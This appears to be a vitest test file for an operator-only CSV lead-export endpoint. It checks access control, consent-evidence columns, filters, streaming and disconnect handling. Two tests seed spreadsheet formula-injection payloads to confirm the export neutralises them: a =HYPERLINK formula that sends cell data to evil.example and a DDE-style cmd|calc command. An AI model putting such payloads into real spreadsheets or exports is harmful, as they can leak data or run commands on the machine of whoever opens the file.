import http from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import request from 'supertest';
import { afterEach, expect, test } from 'vitest';
import { site } from '#content/site.ts';
import { demoConsentText } from '#shared/consent.ts';
import { parseCsv } from '#tests/support/csv.ts';
import { bulkLeads, seedLeads } from '#tests/support/inbox-leads.ts';
import { manualClock } from '#tests/support/manual-clock.ts';
import {
  cookieBrowser,
  cookiePair,
  PASSWORDS,
  SIGN_IN_ENV,
  setCookies,
  signedInAgent,
} from '#tests/support/sessions.ts';
import { createTestApp } from '#tests/support/test-app.ts';

const T0 = '2026-03-02T18:00:00.000Z';

const open: { close(): Promise<void> | void }[] = [];
afterEach(async () => {
  for (const item of open.splice(0).reverse()) await item.close();
});

async function setup() {
  const time = manualClock(T0);
  const ctx = await createTestApp(SIGN_IN_ENV, { clock: time.clock });
  open.push(ctx);
  const operator = await signedInAgent(ctx.app, 'operator');
  /** The export with these filters, read whole and parsed; the heading row first. */
  const exported = async (query: Record<string, string> = {}) => {
    const res = await operator.get(`/api/leads/export.csv?${new URLSearchParams(query)}`).buffer(true);
    expect(res.status, res.text).toBe(200);
    return parseCsv(res.text.replace(/^\uFEFF/, ''));
  };
  return { ...ctx, time, operator, exported };
}

const HEADINGS = [
  'Lead id',
  'Captured at (UTC)',
  'Kind',
  'Full name',
  'First name',
  'Last name',
  'Company',
  'Phone',
  'E-mail',
  'Source tag',
  'Calendar',
  'Call',
  'Time zone',
  'Call status',
  'Consent version',
  'Consent given at (UTC)',
  'Consent IP address',
  'Consent user agent',
  'Consent text',
  'Consent state',
  'Consent revoked at (UTC)',
  'Delivery',
  'Delivery attempts',
  'Delivered at (UTC)',
  'Last delivery error',
  'Given up at (UTC)',
];

/** Each data row as an object by heading. */
function records(rows: string[][]): Record<string, string>[] {
  const [headings = [], ...data] = rows;
  return data.map((row) => Object.fromEntries(headings.map((heading, i) => [heading, row[i] ?? ''])));
}

test('only an operator session exports: none, a client or an analytics session gets 401 and no lead', async () => {
  const ctx = await setup();
  await seedLeads(ctx.db, [{ createdAt: T0 }]);
  const client = await signedInAgent(ctx.app, 'client');
  const analytics = await signedInAgent(ctx.app, 'analytics');
  for (const browser of [cookieBrowser(ctx.app), client, analytics]) {
    const res = await browser.get('/api/leads/export.csv');
    expect(res.status).toBe(401);
    expect(res.text).not.toContain('jane@example.com');
  }
});

test('the export is a CSV download of every lead with its call, delivery and consent evidence', async () => {
  const ctx = await setup();
  const demo = await request(ctx.app)
    .post('/api/demo-calls')
    .set('User-Agent', 'Mozilla/5.0 (export test)')
    .send({ fullName: 'Jane Doe', phone: '2102345678', email: 'jane@example.com', consent: true });
  expect(demo.status).toBe(201);
  ctx.time.advance(60_000);
  const contact = await request(ctx.app).post('/api/contact').send({
    firstName: 'John',
    lastName: 'Roe',
    phoneNumber: '2107654321',
    companyName: 'Roe Homes, LLC',
    email: 'john@example.com',
  });
  expect(contact.status).toBe(201);

  const res = await ctx.operator.get('/api/leads/export.csv').buffer(true);
  expect(res.status).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toBe('attachment; filename="porchlight-leads-2026-03-02.csv"');
  expect(res.headers['cache-control']).toBe('no-store');
  expect(res.text.startsWith('\uFEFFLead id,Captured at (UTC),Kind,')).toBe(true);
  const rows = parseCsv(res.text.slice(1));
  expect(rows[0]).toEqual(HEADINGS);
  const [john, jane] = records(rows);
  expect(john).toMatchObject({
    'Captured at (UTC)': '2026-03-02T18:01:00.000Z',
    Kind: 'Contact form',
    'Full name': 'John Roe',
    'First name': 'John',
    'Last name': 'Roe',
    Company: 'Roe Homes, LLC',
    Phone: '(210) 765-4321',
    'E-mail': 'john@example.com',
    'Source tag': 'website',
    Calendar: 'https://cal.com/porchlight/demo-call',
    'Call status': '',
    'Consent version': 'contact-notice-2026-01',
    'Consent given at (UTC)': '2026-03-02T18:01:00.000Z',
    Delivery: 'queued',
    'Delivery attempts': '0',
  });
  expect(jane).toMatchObject({
    Kind: 'Demo call',
    'Full name': 'Jane Doe',
    Phone: '(210) 234-5678',
    Call: 'Immediate',
    'Time zone': 'America/Chicago',
    'Call status': 'preparing',
    'Consent version': 'demo-call-2026-01',
    'Consent given at (UTC)': T0,
    'Consent user agent': 'Mozilla/5.0 (export test)',
    'Consent text': demoConsentText(site.name),
    Delivery: 'queued',
  });
  expect(jane?.['Consent IP address']).toMatch(/127\.0\.0\.1|::1/);
  expect(jane?.['Lead id']).toMatch(/^[0-9a-f-]{36}$/);
});

test('the export takes the inbox filters and search; bad ones are a 400 naming the field', async () => {
  const ctx = await setup();
  await seedLeads(ctx.db, [
    { createdAt: '2026-03-01T10:00:00.000Z', fullName: 'Ann Demo', kind: 'demo', state: 'delivered' },
    { createdAt: '2026-03-01T11:00:00.000Z', fullName: 'Ben Contact', kind: 'contact' },
    { createdAt: '2026-03-02T11:00:00.000Z', fullName: 'Cat Contact', kind: 'contact', sourceTag: 'isa-hq' },
  ]);
  const names = async (query: Record<string, string>) =>
    records(await ctx.exported(query)).map((row) => row['Full name']);
  expect(await names({})).toEqual(['Cat Contact', 'Ben Contact', 'Ann Demo']);
  expect(await names({ kind: 'contact' })).toEqual(['Cat Contact', 'Ben Contact']);
  expect(await names({ state: 'delivered' })).toEqual(['Ann Demo']);
  expect(await names({ source: 'isa-hq' })).toEqual(['Cat Contact']);
  expect(await names({ to: '2026-03-01', q: 'ben' })).toEqual(['Ben Contact']);
  // The paging parameters of the list do not cut the export short.
  expect(await names({ limit: '1' })).toHaveLength(3);
  expect(await ctx.exported({ q: 'nobody' })).toEqual([HEADINGS]);

  const bad = await ctx.operator.get('/api/leads/export.csv?kind=robot&from=yesterday');
  expect(bad.status).toBe(400);
  expect(bad.body).toMatchObject({
    fieldErrors: { kind: "Kind must be 'demo' or 'contact'", from: 'Start date must be a date (yyyy-mm-dd)' },
  });
});

test('no cell can run as a spreadsheet formula, and quotes, commas and line breaks survive', async () => {
  const ctx = await setup();
  await seedLeads(ctx.db, [
    {
      createdAt: T0,
      fullName: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      kind: 'contact',
      companyName: '@SUM(1+1)*cmd|" /C calc"!A0',
      email: '+1@evil.example',
      userAgent: '-2+3',
      ipAddress: '\t=1',
      state: 'retrying',
      lastError: 'webhook answered 500: "boom",\r\nretry later',
    },
  ]);
  const [row] = records(await ctx.exported());
  expect(row).toMatchObject({
    'Full name': `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    'First name': `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
    Company: `'@SUM(1+1)*cmd|" /C calc"!A0`,
    'E-mail': "'+1@evil.example",
    'Consent user agent': "'-2+3",
    'Consent IP address': "'\t'=1",
    'Last delivery error': 'webhook answered 500: "boom",\r\nretry later',
  });
  // Every cell a spreadsheet would read as a formula starts with the quote that makes it text.
  for (const cell of Object.values(row ?? {})) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
});

test('a spreadsheet set to `;` or tabs, which splits cells our quotes keep whole, finds no formula either', async () => {
  const ctx = await setup();
  const userAgent = 'Mozilla/5.0 (X11);=HYPERLINK("http://evil.example/?"&A1)\t@SUM(1+1)';
  const contact = await request(ctx.app).post('/api/contact').set('User-Agent', userAgent).send({
    firstName: 'John',
    lastName: 'Roe',
    phoneNumber: '2107654321',
    companyName: 'Acme;=1+1',
    email: 'john@example.com',
  });
  expect(contact.status).toBe(201);

  const res = await ctx.operator.get('/api/leads/export.csv').buffer(true);
  expect(res.status).toBe(200);
  const text = res.text.replace(/^\uFEFF/, '');
  // Read with the file's own separator, each cell holds the whole value, each formula piece behind a quote.
  const [row] = records(parseCsv(text));
  expect(row).toMatchObject({
    Company: "Acme;'=1+1",
    'Consent user agent': `Mozilla/5.0 (X11);'=HYPERLINK("http://evil.example/?"&A1)\t'@SUM(1+1)`,
  });
  // Read as a spreadsheet in another locale would, no cell is a formula, even once leading blanks are trimmed.
  for (const separator of [',', ';', '\t'] as const) {
    for (const cells of parseCsv(text, separator)) {
      for (const cell of cells) expect(cell, `split by ${JSON.stringify(separator)}`).not.toMatch(/^\s*[=+\-@]/);
    }
  }
  // Nowhere a spreadsheet could start a cell (a separator of any locale, a line break) does a formula begin.
  expect(text).not.toMatch(/(^|[,;\t\r\n])[\s"]*[=+\-@]/);
});

test('a large export is streamed as the client reads it: a client that stops reading stops the server', async () => {
  const ctx = await setup();
  // About 22 MB of CSV: far more than the sockets between the two ends can hold.
  const LEADS = 20_000;
  await bulkLeads(ctx.db, LEADS, '2026-01-01T00:00:00.000Z', `${'I agree to be called. '.repeat(45)}`);
  const cookie = await operatorCookie(ctx.app);

  const server = http.createServer(ctx.app);
  const sockets: Socket[] = [];
  server.on('connection', (socket) => sockets.push(socket));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  open.push({
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  });
  const { port } = server.address() as AddressInfo;

  const response = await new Promise<http.IncomingMessage>((resolve, reject) => {
    http
      .get({ host: '127.0.0.1', port, path: '/api/leads/export.csv', headers: { cookie } }, resolve)
      .on('error', reject);
  });
  expect(response.statusCode).toBe(200);
  // Streamed: sent in chunks as it is made, with no length known up front.
  expect(response.headers['transfer-encoding']).toBe('chunked');
  expect(response.headers['content-length']).toBeUndefined();
  response.pause();

  // While the client reads nothing, what the server has handed its socket stops growing well short of the file.
  const written = () => sockets.reduce((sum, socket) => sum + socket.bytesWritten, 0);
  let last = -1;
  let steadySince = Date.now();
  for (const started = Date.now(); Date.now() - steadySince < 1_500 && Date.now() - started < 30_000; ) {
    await delay(100);
    if (written() !== last) {
      last = written();
      steadySince = Date.now();
    }
  }
  expect(Date.now() - steadySince).toBeGreaterThanOrEqual(1_500);
  expect(last).toBeGreaterThan(0);
  expect(last).toBeLessThan(8_000_000);

  // Reading on, the client gets every lead once.
  const chunks: Buffer[] = [];
  response.on('data', (chunk: Buffer) => chunks.push(chunk));
  response.resume();
  await new Promise((resolve) => response.on('end', resolve));
  const text = Buffer.concat(chunks).toString('utf8');
  expect(text.length).toBeGreaterThan(20_000_000);
  expect(written()).toBeGreaterThan(20_000_000);
  // These leads hold no quote, comma or line break, so each line is one lead.
  const lines = text.replace(/^\uFEFF/, '').split('\r\n');
  expect(lines.pop()).toBe('');
  expect(lines).toHaveLength(LEADS + 1);
  const ids = lines.slice(1).map((line) => line.slice(0, line.indexOf(',')));
  expect(new Set(ids).size).toBe(LEADS);
  expect(ids[0]).toBe('bulk-019999');
  expect(ids.at(-1)).toBe('bulk-000000');
});

test('a client that leaves in the middle of an export ends it, and the inbox carries on', async () => {
  const ctx = await setup();
  await bulkLeads(ctx.db, 5_000, '2026-01-01T00:00:00.000Z', 'x'.repeat(2_000));
  const cookie = await operatorCookie(ctx.app);
  const server = http.createServer(ctx.app);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  open.push({ close: () => new Promise<void>((resolve) => server.close(() => resolve())) });
  const { port } = server.address() as AddressInfo;
  const closed = new Promise<void>((resolve) => {
    const req = http.get({ host: '127.0.0.1', port, path: '/api/leads/export.csv', headers: { cookie } }, (res) => {
      res.once('data', () => {
        req.destroy();
        resolve();
      });
    });
    req.on('error', () => {});
  });
  await closed;
  await delay(200);
  expect((await ctx.operator.get('/api/leads?limit=1')).body.total).toBe(5_000);
});

/** A fresh operator session's cookie, as a browser sends it back. */
async function operatorCookie(app: Parameters<typeof request>[0]): Promise<string> {
  const res = await request(app).post('/api/session').send({ role: 'operator', password: PASSWORDS.operator });
  return cookiePair(setCookies(res)[0] ?? '');
}
